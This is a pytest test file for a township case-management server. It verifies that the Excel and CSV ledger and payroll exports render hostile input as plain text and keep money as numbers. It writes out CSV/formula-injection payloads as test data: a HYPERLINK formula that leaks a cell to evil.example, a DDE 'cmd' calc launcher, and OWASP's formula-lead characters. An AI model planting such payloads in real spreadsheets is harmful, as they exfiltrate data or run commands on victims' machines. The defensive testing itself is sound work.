"""Spreadsheets people open in Excel (the ledger, the payroll), built from hostile text: a control
character in a problem's description, a formula as a description or as a grid's name. Every file
downloads (API and console), opens with openpyxl, holds the text as text (never a formula) and the
money as numbers."""
import csv
import datetime as dt
import io
import uuid
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from server.cases.models import Problem
from server.extensions import db

from .patrol_data import card_of
from .test_cases import ADMIN, REPORTER, SUP_OWN, _spot
from .test_console import _session

CONTROL = "垃圾\x0b堆放"  # made the township's and the county's ledger a permanent 500
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'
GRID = "=2+3+cmd|' /C calc'!A0"  # a grid renamed by an administrator
WIDE = "＝1+1 全角等号"  # (full width: Excel's Chinese input method makes it "=" when the cell is edited)
PERIOD = "2026-10"


def _report(api, description, offset_m):
    lon, lat = _spot(offset_m)
    r = api.post("/api/v1/problems", token=api.token(REPORTER), json={
        "uuid": str(uuid.uuid4()), "category": "luan_dui", "lon": lon, "lat": lat, "description": description,
        "reported_at": dt.datetime.now(dt.UTC).isoformat()})
    if r.status_code == 422 and description == CONTROL:
        # intake may refuse control characters; rows stored before it did, or imported, still hold them
        r = api.post("/api/v1/problems", token=api.token(REPORTER), json={
            "uuid": str(uuid.uuid4()), "category": "luan_dui", "lon": lon, "lat": lat, "description": "垃圾堆放",
            "reported_at": dt.datetime.now(dt.UTC).isoformat()})
        assert r.status_code == 201, r.text
        problem = db.session.scalar(select(Problem).where(Problem.uuid == r.json()["uuid"]))
        problem.description = CONTROL
        db.session.commit()
    assert r.status_code == 201, r.text
    return r.json()["case_no"]


@pytest.fixture
def hostile(api):
    """Three reports by an inspector through the API, and his village renamed through the console."""
    cases = {text: _report(api, text, offset_m=10 * i) for i, text in enumerate((CONTROL, FORMULA, WIDE))}
    s, token = _session(api, ADMIN)
    r = s.post(api.base + "/console/grids", data={"kind": "grid", "id": str(card_of(REPORTER).grid_id), "name": GRID,
                                                  "csrf_token": token}, allow_redirects=False)
    assert r.status_code == 302, r.text
    return cases


def _no_formula_anywhere(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _console(api, phone):
    s, _ = _session(api, phone)
    return lambda path: s.get(api.base + path)


def _check_ledger(content: bytes, cases: dict) -> None:
    _no_formula_anywhere(content)
    book = load_workbook(io.BytesIO(content))
    rows = {row[0].value: row for row in book["问题台账"].iter_rows(min_row=3)}
    expected = {CONTROL: "垃圾堆放", FORMULA: FORMULA, WIDE: WIDE}  # the control character dropped, nothing else
    for text, case_no in cases.items():
        row = rows[case_no]
        description, grid, lon, lat, steps = row[8], row[4], row[5], row[6], row[18]
        assert (description.value, description.data_type) == (expected[text], "s"), case_no
        assert (grid.value, grid.data_type) == (GRID, "s")
        assert lon.data_type == lat.data_type == steps.data_type == "n" and steps.value == 1
    assert rows[cases[FORMULA]][8].quotePrefix and rows[cases[WIDE]][8].quotePrefix  # text even once edited
    notes = {row[0].value: row[9] for row in book["流转记录"].iter_rows(min_row=2)}
    assert (notes[cases[FORMULA]].value, notes[cases[FORMULA]].data_type) == (FORMULA, "s")
    assert notes[cases[CONTROL]].value == "垃圾堆放"


def test_the_ledger_of_hostile_reports_opens_with_text_as_text(engine_name, api, hostile):
    for phone in (SUP_OWN, ADMIN):  # the township's ledger and the county's
        r = api.get("/api/v1/cases/ledger", token=api.token(phone))
        assert r.status_code == 200, r.text
        _check_ledger(r.content, hostile)
        r = _console(api, phone)("/console/ledger.xlsx")
        assert r.status_code == 200 and r.headers["Content-Type"].startswith("application/vnd.openxmlformats")
        _check_ledger(r.content, hostile)


def _check_payroll_xlsx(content: bytes) -> None:
    _no_formula_anywhere(content)
    book = load_workbook(io.BytesIO(content))
    detail = {row[3].value: row for row in book["补贴明细"].iter_rows(min_row=3)}
    mine = detail[REPORTER]
    assert (mine[1].value, mine[1].data_type, mine[1].quotePrefix) == (GRID, "s", True)
    assert mine[3].data_type == "s"  # a phone number stays text (no 1.39e10)
    amounts = [row[10] for row in detail.values()]
    assert all(c.data_type == "n" and isinstance(c.value, (int, float)) for c in amounts)
    towns = list(book["乡镇合计"].iter_rows(min_row=2))
    assert towns[-1][2].data_type == "n" and towns[-1][2].value == pytest.approx(sum(c.value for c in amounts))


def _check_payroll_csv(content: bytes) -> None:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    detail = {row[3]: row for row in rows[2:] if len(row) > 10}
    mine = detail[REPORTER]
    assert mine[1] == "'" + GRID  # Excel and LibreOffice read a leading apostrophe as "text"
    assert all(float(row[10]) >= 0 and not row[10].startswith("'") for row in detail.values())  # money: numbers


def test_the_payroll_of_a_renamed_grid_opens_with_text_as_text(engine_name, api, hostile):
    console = _console(api, ADMIN)
    for fmt, check in (("xlsx", _check_payroll_xlsx), ("csv", _check_payroll_csv)):
        r = api.get(f"/api/v1/assessments/{PERIOD}/payroll", token=api.token(ADMIN), params={"format": fmt})
        assert r.status_code == 200, r.text
        check(r.content)
        r = console(f"/console/assessment/payroll.{fmt}?period={PERIOD}")
        assert r.status_code == 200, r.text
        check(r.content)


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
                                  "＋1", "－1", "＠SUM(A1)", "#N/A"])
def test_every_formula_lead_is_text_in_both_formats(text):
    """OWASP's list (= + - @, tab, CR, LF), the full-width forms, and an error value: text in both."""
    from decimal import Decimal

    from server.xlsx import csv_bytes, workbook

    sheet = load_workbook(io.BytesIO(workbook([("s", None, ["a", "b"], [[text, Decimal("12.50")]])])))["s"]
    as_read = text.replace("\r", "\n")  # (XML reads a CR as a line feed)
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == (as_read, "s", True)
    assert (sheet["B2"].value, sheet["B2"].data_type) == (12.5, "n")
    row = next(csv.reader(io.StringIO(csv_bytes([[text, Decimal("12.50"), 3]]).decode("utf-8-sig"))))
    assert row == ["'" + text, "12.50", "3"]


def test_the_ledgers_steps_come_in_order_whatever_the_query_size(engine_name, api, hostile, monkeypatch):
    """Steps are read in chunks of case numbers (SQLite takes 32,766 parameters a query): one case a
    chunk gives the same sheet."""
    from server.cases import service

    def steps():
        r = api.get("/api/v1/cases/ledger", token=api.token(ADMIN))
        assert r.status_code == 200
        return list(load_workbook(io.BytesIO(r.content))["流转记录"].iter_rows(min_row=2, values_only=True))

    accepted = hostile[FORMULA]
    r = api.post(f"/api/v1/cases/{accepted}/transitions", token=api.token(SUP_OWN), json={"action": "accept"})
    assert r.status_code == 201, r.text
    whole = steps()
    monkeypatch.setattr(service, "LEDGER_CHUNK", 1)
    assert steps() == whole and len(whole) == len(hostile) + 1
    assert [row[0] for row in whole] == sorted([*hostile.values(), accepted])
    assert [row[2] for row in whole if row[0] == accepted] == ["上报", "受理"]
